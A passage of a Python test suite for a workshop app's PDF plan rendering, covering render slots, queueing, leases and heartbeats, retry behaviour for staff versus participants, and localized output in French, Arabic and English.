    whichever process asks, and a PDF one of them had rendered is served by the other."""
    one, two = on_disk(), on_disk()
    with one.app_context():
        workshop_id = create_sample(*OWNER, until="ideas").id
    spawned = []

    def ask(app, language: str, edition: str = "public") -> str:
        with app.app_context():
            key = plan_render.key_for(db.session.get(Workshop, workshop_id), language,
                                      edition)
            return plan_render.ask_render(key, spawn=holding(spawned))["state"]

    assert ask(one, "en") == "queued"
    assert ask(two, "en") == "queued"  # the render one started serves two as well
    assert ask(two, "fr") == "queued"
    assert [ask(one, "ar"), ask(two, "ar"), ask(two, "en", "internal")] == ["busy"] * 3
    assert len(spawned) == plan_render.RENDER_SLOTS == 2
    # the English render ends (in its own process, whichever): its place is free for all
    fake_pdf(monkeypatch)
    with two.app_context():
        assert plan_render.render(*spawned[0])
    assert ask(two, "ar") == "queued" and len(spawned) == 3
    assert ask(one, "en", "internal") == "busy"
    # what one asked for, two serves
    owner = login(two.test_client(), *OWNER)
    response = owner.get(f"/workshops/{workshop_id}/plan.pdf?language=en")
    assert response.status_code == 200 and response.data == b"%PDF-1.7 stand-in"


def test_renders_are_bounded_one_per_plan_and_render_slots_at_once(app, room_at,
                                                                   monkeypatch):
    """However many people ask while the room moves on, in however many languages: one
    render at a time per workshop, language and edition, and never more than
    RENDER_SLOTS render processes at once; past that, "try again shortly"."""
    seminar = room_at("closing", then=with_organiser)["workshop"]
    spawned = []
    spawn = holding(spawned)
    key = plan_render.key_for(seminar, "en", "public")
    assert plan_render.ask_render(key, spawn=spawn)["state"] == "queued"
    for _ in range(3):  # the room moves on while it waits: the same render serves
        seminar.last_seq += 1
        db.session.commit()
        newer = plan_render.key_for(seminar, "en", "public")
        assert plan_render.ask_render(newer, spawn=spawn)["state"] == "queued"
    assert [k for k, _token in spawned] == [key]
    # its process renders the room as it is when it starts; meanwhile the room moves on
    # again, and asking for that later state reuses it rather than starting another
    seen = {}

    def meanwhile():
        seminar.last_seq += 1
        db.session.commit()
        latest = plan_render.key_for(seminar, "en", "public")
        seen["latest"] = plan_render.ask_render(latest, spawn=spawn)
        # another plan takes the other place; a third finds none: refused, nothing waits
        french = plan_render.key_for(seminar, "fr", "public")
        seen["french"] = plan_render.ask_render(french, spawn=spawn)["state"]
        seen["arabic"] = plan_render.ask_render(arabic, spawn=spawn)["state"]
        seen["spawned"] = len(spawned)
        seen["arabic rows"] = [v for v in versions(seminar.id) if v[0] == "ar"]

    arabic = plan_render.key_for(seminar, "ar", "internal")
    fake_pdf(monkeypatch, meanwhile)
    assert plan_render.render(*spawned[0])  # its process ends: its place is free again
    assert seen["latest"]["state"] == "rendering" and seen["latest"]["of_seq"] == newer.seq
    assert seen["french"] == "queued" and seen["arabic"] == "busy"
    assert seen["spawned"] == plan_render.RENDER_SLOTS == 2 and seen["arabic rows"] == []
    assert plan_render.status(newer)["state"] == "ready"  # the state it started with
    assert plan_render.ask_render(arabic, spawn=spawn)["state"] == "queued"
    assert spawned[-1][0] == arabic and len(spawned) == 3


def test_a_participant_gets_the_latest_public_file_and_never_tries_again(
        app, room_at, monkeypatch):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    phone = phone_client(app, seminar, "Nadia Phone")
    monkeypatch.setattr(plan_render, "start_process", render_here)
    owner = login(app.test_client(), *OWNER)
    owner.post(f"/workshops/{seminar.id}/plan/share", data={"shared": "1"})
    url = f"/workshops/{seminar.id}/plan.pdf"
    first = phone.get(url)
    assert first.status_code == 200
    started = []

    def broken(key, token):
        started.append(key)
        raise RuntimeError("no fonts")

    monkeypatch.setattr(plan_render, "start_process", broken)
    seminar = db.session.get(Workshop, seminar.id)
    seminar.last_seq += 1  # the room moves on; rendering it fails
    db.session.commit()
    for ask in ("", "?retry=1", "?retry=1"):
        again = phone.get(url + ask)
        assert again.status_code == 200 and again.data == first.data  # the latest ready
    assert len(started) == 1  # the room as it is now asked for once, never again
    db.session.execute(delete(PlanFile).where(PlanFile.state == "ready"))
    db.session.commit()
    page = phone.get(url + "?retry=1")  # nothing ready: no "Try again" for a phone
    assert page.status_code == 503 and "retry=1" not in page.get_data(as_text=True)
    assert len(started) == 1
    waiting = owner.get(url)
    assert waiting.status_code == 503 and "retry=1" in waiting.get_data(as_text=True)
    assert "The render could not start: no fonts" in waiting.get_data(as_text=True)
    owner.get(url + "?retry=1")  # the staff may
    assert len(started) == 2


def test_when_every_render_place_is_taken_people_are_asked_to_try_again(
        app, room_at, monkeypatch):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    started = []
    monkeypatch.setattr(plan_render, "start_process",
                        lambda key, token: started.append(key))
    held = []  # both places, held by renders of another workshop
    other = create_sample("other@example.org", "other-password", until="ideas")
    for language in ("en", "ar"):
        key = plan_render.key_for(other, language, "internal")
        assert plan_render.ask_render(key, spawn=holding(held))["state"] == "queued"
    owner = login(app.test_client(), *OWNER)
    base = f"/workshops/{seminar.id}"
    response = owner.post(f"{base}/plan/render", data={"edition": "public"})
    assert response.status_code == 302
    page = owner.get(f"{base}/plan").get_data(as_text=True)
    assert "The server is preparing other PDFs just now" in page
    waiting = owner.get(f"{base}/plan.pdf?language=fr")
    assert waiting.status_code == 503 and waiting.headers["Retry-After"]
    html = waiting.get_data(as_text=True)
    assert "try again shortly" in html and 'http-equiv="refresh"' in html
    assert not started and versions(seminar.id) == []
    fake_pdf(monkeypatch)
    for key, token in held:  # their processes end
        assert plan_render.render(key, token)
    assert owner.get(f"{base}/plan.pdf?language=fr").status_code == 202
    assert len(started) == 1


def test_a_render_that_died_is_said_failed_and_tried_again_on_request(on_disk,
                                                                      monkeypatch):
    """The server process that started a render process reaps it: one that died
    (killed, or before it could say why) is said failed at once, with the end of what it
    wrote; a page's reload does not try again, the staff's "Try again" does."""
    app = on_disk()
    with app.app_context():
        workshop = create_sample(*OWNER, until="ideas")
        key = plan_render.key_for(workshop, "en", "internal")
        monkeypatch.setattr(plan_render, "process_command", lambda app, key, token: (
            [sys.executable, "-c", "import sys; sys.exit('Killed by the fonts')"],
            dict(os.environ)))
        process = []
        monkeypatch.setattr(plan_render, "start_process", lambda key, token: process.append(
            real_start_process(key, token)))
        assert plan_render.ask_render(key)["state"] == "queued"
        assert process[0].wait(timeout=60) == 1
        state = wait_for(key, lambda state: state["state"] == "failed")
        assert state["reason"] == "The render process ended with code 1. Killed by the fonts"
        spawned = []
        assert plan_render.ask_render(key, spawn=holding(spawned))["state"] == "failed"
        assert not spawned  # a page's reload does not retry
        assert plan_render.ask_render(key, retry=True,
                                      spawn=holding(spawned))["state"] == "queued"
        assert [k for k, _token in spawned] == [key]


def test_a_render_whose_lease_ran_out_is_taken_for_dead(app, room_at):
    """A render process whose machine died has nobody to reap it: its lease runs out
    (no heartbeat for LEASE_SECONDS), its render is said failed and its place freed,
    queued or rendering, even when every place was held by such renders."""
    seminar = room_at("closing", then=with_organiser)["workshop"]
    spawned = []
    english = plan_render.key_for(seminar, "en", "public")
    french = plan_render.key_for(seminar, "fr", "internal")
    for key in (english, french):
        assert plan_render.ask_render(key, spawn=holding(spawned))["state"] == "queued"
    arabic = plan_render.key_for(seminar, "ar", "public")
    assert plan_render.ask_render(arabic, spawn=holding(spawned))["state"] == "busy"
    # the English render process is alive and says so; then both machines die
    assert plan_render.keep_place(*spawned[0])
    assert plan_render.status(english)["state"] == "queued"
    lease_runs_out(english)
    lease_runs_out(french)
    state = plan_render.status(english)
    assert state["state"] == "failed" and state["reason"] == plan_render.STOPPED
    assert not plan_render.keep_place(*spawned[0])  # a late heartbeat: its place is gone
    # the French one is taken for dead by the next request that needs a place
    assert plan_render.ask_render(arabic, spawn=holding(spawned))["state"] == "queued"
    assert plan_render.status(french)["state"] == "failed"
    assert plan_render.ask_render(english, spawn=holding(spawned))["state"] == "failed"
    assert plan_render.ask_render(english, retry=True,
                                  spawn=holding(spawned))["state"] == "queued"
    assert [k for k, _token in spawned] == [english, french, arabic, english]


def test_a_render_process_keeps_its_place_and_stops_once_it_is_taken_back(on_disk,
                                                                           monkeypatch):
    """The render process's lease: a thread refreshes its heartbeat while it renders;
    should its place be taken back all the same (taken for dead by another process), it
    is told at once (the render process then exits: its place is another's)."""
    monkeypatch.setattr(plan_render, "HEARTBEAT_SECONDS", 0.05)
    app = on_disk()
    with app.app_context():
        key = plan_render.key_for(create_sample(*OWNER, until="ideas"), "en", "public")
        spawned = []
        plan_render.ask_render(key, spawn=holding(spawned))
        lost = threading.Event()
        lease = plan_render.Lease(lost.set)

        def heartbeat():
            return db.session.scalar(select(PlanFile.heartbeat_at).where(
                PlanFile.workshop_id == key.workshop_id))

        first = heartbeat()
        lease.start(*spawned[0])
        try:
            deadline = time.monotonic() + 30
            while heartbeat() == first:
                assert time.monotonic() < deadline, "no heartbeat came"
                time.sleep(0.05)
            db.session.execute(update(PlanFile).values(
                state="failed", slot=None, reason=plan_render.STOPPED))
            db.session.commit()
            assert lost.wait(30)
        finally:
            lease.stop()


def test_a_render_that_fails_says_why(app, room_at, monkeypatch):
    seminar = room_at("closing", then=with_organiser)["workshop"]
    key = plan_render.key_for(seminar, "en", "public")

    def broken(_data):
        raise RuntimeError("no fonts")

    monkeypatch.setattr("facilitator.plan.pdf.plan_pdf", broken)
    plan_render.ask_render(key, spawn=render_here)
    state = plan_render.status(key)
    assert state["state"] == "failed" and "no fonts" in state["reason"]


def test_a_workshop_made_again_under_the_same_id_never_gets_another_plan(app, room_at,
                                                                         monkeypatch):
    """A workshop's plans live in its database and go with it: one made again under the
    same id (a database made again, or restored from a backup) starts with none."""
    seminar = room_at("closing", then=with_organiser)["workshop"]
    monkeypatch.setattr(plan_render, "start_process", render_here)
    owner = login(app.test_client(), *OWNER)
    assert owner.get(f"/workshops/{seminar.id}/plan.pdf").status_code == 200
    gone = seminar.id
    db.session.execute(delete(Workshop).where(Workshop.id == gone))
    db.session.commit()
    db.session.remove()  # its rows are gone: so are the objects read from them
    assert versions(gone) == []
    again = create_sample(*OWNER, until="closing")
    if db.engine.dialect.name == "sqlite":
        assert again.id == gone  # SQLite gives the highest id again
    monkeypatch.setattr(plan_render, "start_process", start_nothing)
    assert owner.get(f"/workshops/{again.id}/plan.pdf").status_code == 202
    html = owner.get(f"/workshops/{again.id}/plan").get_data(as_text=True)
    assert "seq=" not in html and 'data-download="' not in html  # no earlier version


def test_a_real_render_process_fills_the_cache(on_disk):
    """With a database on disk, `python -m facilitator.plan.render` renders in its own
    process; two requests at once start one process, which gives its place back as it
    ends."""
    app = on_disk()
    with app.app_context():
        workshop = create_sample(*OWNER, until="closed")
        key = plan_render.key_for(workshop, "ar", "internal")
    processes = []

    def counted(key, token):
        processes.append(real_start_process(key, token))

    def ask():
        with app.app_context():
            plan_render.ask_render(key, spawn=counted)

    threads = [threading.Thread(target=ask) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    with app.app_context():
        state = wait_for(key, lambda state: state["state"] not in ("queued", "rendering"))
        assert state["state"] == "ready", state
        assert len(processes) == 1 and processes[0].wait(timeout=60) == 0
        pages = pdf_pages(plan_render.ready_pdf(key))
        assert any("rania.haddad@example.org" in page for page in pages)
        # its place is free: the rows hold nothing under way
        assert [v[3] for v in versions(key.workshop_id)] == ["ready"]


def test_a_synergys_reason_is_written_in_each_readers_language(app, room_at):
    """The app's reason for a synergy is data, stored as nobody's note: a phone gets the
    data (its page writes it, static/js/steps/shared-plan.js), and the plan in each language writes
    it in that language's words."""
    seminar = room_at("closing", then=with_organiser)["workshop"]
    with app.test_request_context():  # the plan's HTML links the app's files
        phone = participants.viewer_for(db.session.scalars(select(Participant).where(
            Participant.workshop_id == seminar.id).order_by(Participant.id)).first())
        chamber = next(s for s in snapshot(phone)["synergies"]["list"]
                       if s["title"] == "The chamber of commerce, in every group")
        assert chamber["note"] == "" and chamber["reason"]["kind"] == "shared_actor"
        assert "CCIA-BML" in chamber["reason"]["names"]
        words = {"fr": "est cité par les groupes", "ar": "ذكرت المجموعات",
                 "en": "is named by groups"}
        for language, said in words.items():
            with force_locale(language):
                written = synergies.reason_text(chamber["reason"])
            assert said in written and "CCIA-BML" in written
            page = plan_html(plan.gather(seminar.id, language=language))
            assert said in re.sub(r"[\u2068\u2069]", "", page)  # the plan's words, its language's
            assert all(other not in page for other in words.values() if other != said)


def test_the_public_edition_is_rendered_ahead_when_the_room_closes(app, room_at,
                                                                   monkeypatch):
    """Closing the workshop, and each correction after it, asks for the public edition
    in the workshop's language at once (after the commit), so that the first organiser
    or participant to ask gets the PDF without waiting for a render."""
    seminar = room_at("closing", then=with_organiser)["workshop"]
    asked = []
    monkeypatch.setattr(plan_render, "start_process", holding(asked))
    console = workshops.viewer_for(seminar, accounts.find(OWNER[0]))
    app.config["PLAN_RENDER_AHEAD"] = False
    assert operations.perform(console, "workshop.close", "close-without-00")["ok"]
    assert operations.perform(console, "workshop.reopen", "reopen-00000000")["ok"]
    assert asked == []  # turned off: nothing rendered before anyone asks
    app.config["PLAN_RENDER_AHEAD"] = True
    assert operations.perform(console, "workshop.close", "close-ahead-0000")["ok"]
    closed = db.session.get(Workshop, seminar.id)
    assert [key for key, _token in asked] == [plan_render.key_for(closed, None, "public")]
    assert plan_render.status(asked[0][0])["state"] == "queued"
    # a correction: the room as it is now is asked for (the render under way, queued,
    # renders the room as its process finds it; once it is done, a new one starts)
    idea = db.session.scalars(select(Idea).where(  # a card on the wall (PostgreSQL's
        Idea.workshop_id == seminar.id, Idea.merged_into_id.is_(None),  # rows come in no
        Idea.withdrawn.is_(False)).order_by(Idea.id)).first()  # set order)
    ack = operations.perform(console, "idea.edit", "correct-0000000", idea_id=idea.id,
                             text="A corrected card", kind=idea.kind, origin=idea.origin)
    assert ack["ok"], ack
    corrected = db.session.get(Workshop, seminar.id)
    assert plan_render.status(plan_render.key_for(corrected))["state"] == "queued"
    # a refused change asks for nothing
    before = len(asked)
    assert not operations.perform(console, "workshop.close", "close-again-000")["ok"]
    assert len(asked) == before
